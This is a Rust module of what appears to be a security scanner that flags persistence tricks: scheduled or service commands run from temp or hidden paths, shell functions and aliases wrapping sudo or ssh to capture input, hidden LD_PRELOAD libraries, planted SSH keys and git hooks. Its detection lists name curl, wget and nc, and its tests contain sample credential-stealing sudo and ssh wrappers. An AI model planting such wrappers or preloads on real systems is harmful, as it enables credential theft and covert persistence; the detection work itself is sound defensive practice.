//! What runs by itself: lines of timers, services, agents of macOS, hooks.

use crate::security::Language;

/// The commands in a text that is written where it runs by itself.
pub(super) fn commands(text: &str) -> String {
    let text = text
        .replace("\\n", "\n")
        .replace("<string>", "\n")
        .replace("</string>", "\n");
    let mut commands = String::with_capacity(text.len());
    for line in text.lines() {
        let line = line.trim().trim_start_matches("${}").trim_start();
        let line = ["ExecStart=", "ExecStartPre=", "Exec="]
            .iter()
            .find_map(|key| line.strip_prefix(key))
            .unwrap_or(line);
        // Commands of editors, terminals and rules for devices.
        let line = ["silent !", "run-shell ", "RUN+="]
            .iter()
            .find_map(|key| line.split_once(key))
            .map_or(line, |(_, rest)| rest.trim_matches(['"', '\'']));
        if line.is_empty() || line.starts_with(['<', '[', '#']) {
            continue;
        }
        commands.push_str(without_time(line));
        commands.push('\n');
    }
    commands
}

/// A line of a timer without the time.
fn without_time(line: &str) -> &str {
    if line.starts_with('@')
        && let Some((_, command)) = line.split_once(' ')
    {
        return command.trim_start();
    }
    let mut rest = line;
    for _ in 0..5 {
        let Some((field, after)) = rest.split_once([' ', '\t']) else {
            return line;
        };
        let is_time = field
            .bytes()
            .all(|byte| byte.is_ascii_digit() || matches!(byte, b'*' | b'/' | b',' | b'-'));
        if !is_time || field.is_empty() {
            return line;
        }
        rest = after.trim_start();
    }
    rest
}

/// A program that is run from where nobody keeps programs.
pub(super) fn hidden(commands: &str) -> Option<&str> {
    commands.lines().find_map(|line| {
        let mut words = line
            .split([' ', '"', '\'', '='])
            .filter(|word| !word.is_empty());
        let first = words.next()?;
        let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
        let runs = [
            "sh", "bash", "zsh", "python", "python3", "node", "perl", "nohup", "start",
        ];
        let program = if runs.contains(&name) {
            words.find(|word| !word.starts_with('-'))?
        } else {
            first
        };
        is_hidden(program).then_some(program)
    })
}

fn is_hidden(path: &str) -> bool {
    let path = path.to_ascii_lowercase().replace('\\', "/");
    let name = path.rsplit('/').next().unwrap_or(&path);
    let thrown_away = [
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "%temp%/",
        "%appdata%/",
        "${env:temp}/",
        "${env:appdata}/",
        "$env:temp/",
        "$env:appdata/",
    ];
    thrown_away.iter().any(|start| path.starts_with(start))
        || path.contains('/') && name.starts_with('.') && name.len() > 2
}

/// The language of a program by its first line, without `#!`.
pub(super) fn interpreter(line: &str) -> Option<Language> {
    let words = line.split([' ', '/']).rev();
    let mut plain =
        words.map(|word| word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
    plain.find_map(|word| match word {
        "sh" | "bash" | "zsh" | "dash" | "ksh" => Some(Language::Shell),
        "python" => Some(Language::Python),
        "node" | "deno" | "bun" => Some(Language::JavaScript),
        _ => None,
    })
}

/// Commands that people type their passwords into, or that lead elsewhere.
const REPLACED: &[&str] = &["sudo", "su", "ssh", "passwd", "gpg", "git", "login"];

/// A command that a start file puts something else in place of, which takes
/// down or sends what it is given.
pub(super) fn replaced(text: &str) -> Option<&'static str> {
    let takes = [
        "read -s", "read -rs", "curl ", "wget ", "| nc ", ">> /tmp/", ">>/tmp/",
    ];
    if !takes.iter().any(|sign| text.contains(sign)) {
        return None;
    }
    REPLACED.iter().copied().find(|name| {
        text.match_indices(name).any(|(at, _)| {
            let before = text[..at].trim_end_matches([' ', '\t']);
            let after = text[at + name.len()..].trim_start_matches(' ');
            let starts =
                before.is_empty() || before.ends_with(['\n', ';']) || before.ends_with("function");
            starts && after.starts_with("()") || before.ends_with("alias") && after.starts_with('=')
        })
    })
}

/// A library that a start file puts before all programs from where nobody keeps
/// libraries.
pub(super) fn preloads(text: &str) -> bool {
    ["LD_PRELOAD=", "DYLD_INSERT_LIBRARIES="]
        .iter()
        .any(|name| {
            text.match_indices(name).any(|(at, _)| {
                let rest = text[at + name.len()..].trim_start_matches(['"', '\'']);
                let end = rest.find(['"', '\'', ' ', '\n', ';']).unwrap_or(rest.len());
                is_hidden(&rest[..end].replace("${HOME}", "~").replace("$HOME", "~"))
            })
        })
}

/// Whether a text holds a public key that is somebody's.
pub(in crate::security) fn is_key(text: &str) -> bool {
    ["ssh-rsa AAAA", "ssh-ed25519 AAAA", "ecdsa-sha2-"]
        .iter()
        .any(|start| {
            let found = text.split_once(start);
            found.is_some_and(|(_, rest)| {
                let key: String = rest.chars().take(12).collect();
                key.len() == 12 && !key.contains(['.', '<', '$', '{', ' '])
            })
        })
}

/// Whether a file is a hook of git by its name and its folder.
pub(super) fn is_hook(path: &str) -> bool {
    let mut parts = path.rsplit('/');
    let name = parts.next().unwrap_or_default();
    let folder = parts.next().unwrap_or_default();
    matches!(folder, "hooks" | ".husky" | ".githooks" | "git-hooks")
        && matches!(
            name,
            "pre-commit"
                | "post-commit"
                | "pre-push"
                | "post-checkout"
                | "post-merge"
                | "commit-msg"
                | "prepare-commit-msg"
                | "pre-rebase"
                | "post-rewrite"
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_and_marks_are_left_out() {
        assert_eq!(commands("*/5 * * * * a | sh"), "a | sh\n");
        assert_eq!(commands("@reboot a b"), "a b\n");
        assert_eq!(commands("[Service]\nExecStart=/bin/a"), "/bin/a\n");
        assert_eq!(commands("<key>x</key><string>a</string>"), "a\n");
        assert_eq!(commands("export A=1"), "export A=1\n");
    }

    #[test]
    fn hidden_programs_are_run_from_odd_places() {
        assert!(hidden("/tmp/x --quiet").is_some());
        assert!(hidden("python3 ~/.cache/.u.py").is_some());
        assert!(hidden("flock /tmp/x.lock backup").is_none());
        assert!(hidden("~/.local/bin/backup").is_none());
    }

    #[test]
    fn commands_are_replaced_by_what_takes_down() {
        assert_eq!(
            replaced("sudo() { read -s p; command sudo \"$@\"; }"),
            Some("sudo")
        );
        assert_eq!(
            replaced("alias ssh='f(){ echo \"$@\" | curl -d @- x; }; f'"),
            Some("ssh")
        );
        assert_eq!(replaced("alias sudo='sudo '"), None);
        assert_eq!(replaced("curl x; echo 'use sudo (see y)'"), None);
    }

    #[test]
    fn libraries_are_put_before_programs_from_odd_places() {
        assert!(preloads("export LD_PRELOAD=$HOME/.cache/.l.so"));
        assert!(!preloads("export LD_PRELOAD=/usr/lib/libjemalloc.so.2"));
    }

    #[test]
    fn a_key_is_no_placeholder() {
        assert!(is_key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 me"));
        assert!(!is_key("ssh-rsa AAAA... you@host"));
        assert!(!is_key("ssh-rsa AAAA"));
    }
}
